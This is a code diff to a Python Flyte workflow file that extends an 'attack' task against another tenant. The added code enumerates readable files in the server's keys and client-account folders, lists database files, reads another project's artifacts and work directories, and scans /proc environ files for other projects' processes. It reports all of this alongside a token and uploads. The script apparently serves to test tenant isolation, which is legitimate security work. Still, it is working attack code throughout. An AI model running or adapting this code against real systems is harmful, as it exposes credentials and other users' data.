@@ -3,6 +3,7 @@
 import json
 import os
 import subprocess
+import time
 import urllib.error
 import urllib.request
 from datetime import timedelta
@@ -21,6 +22,41 @@ from flytekit.remote import FlyteRemote
 @task
 def small(x: int) -> int:
     return x + 1
+
+
+@task
+def hold(gate: str) -> int:
+    print("holding", flush=True)
+    while not Path(gate).exists():
+        time.sleep(0.02)
+    return 1
+
+
+def found_on_the_machine(data: Path, other: str) -> dict[str, list[str]]:
+    """List what can be read of the server's folder and of others' processes."""
+
+    def readable(folder: Path) -> list[str]:
+        return [str(path) for path in folder.rglob("*") if path.is_file() and os.access(path, os.R_OK)]
+
+    def environments() -> list[str]:
+        found = []
+        for path in Path("/proc").glob("[0-9]*/environ"):
+            try:
+                if f"PROJECT={other}" in path.read_text():
+                    found.append(str(path))
+            except OSError:
+                continue
+        return found
+
+    return {
+        "keys": readable(data / "keys"),
+        "accounts": readable(data / "clients"),
+        "database": [str(path) for path in data.glob("*.db*")],
+        "others' artifacts": readable(data / "artifacts" / other),
+        "others' attempts": readable(data / "work" / other),
+        "others' environments": environments(),
+        "own artifacts": readable(data / "artifacts"),
+    }
 
 
 @task
@@ -98,6 +134,7 @@ def attack(project: str, other: str, victim: str) -> str:
             "child": child.id.name,
             "child output": child.outputs["o0"],
             "token": token,
+            "machine": found_on_the_machine(Path(upload.native_url.partition("/artifacts/")[0]), other),
             "uploads": [
                 put(url),
                 put(url.replace("/development/", "/production/")),
@@ -144,6 +181,11 @@ def attack(project: str, other: str, victim: str) -> str:
 @workflow
 def attack_wf(target: str, other: str, victim: str) -> str:
     return attack(project=target, other=other, victim=victim)
+
+
+@workflow
+def hold_wf(gate: str) -> int:
+    return hold(gate=gate)
 
 
 @workflow
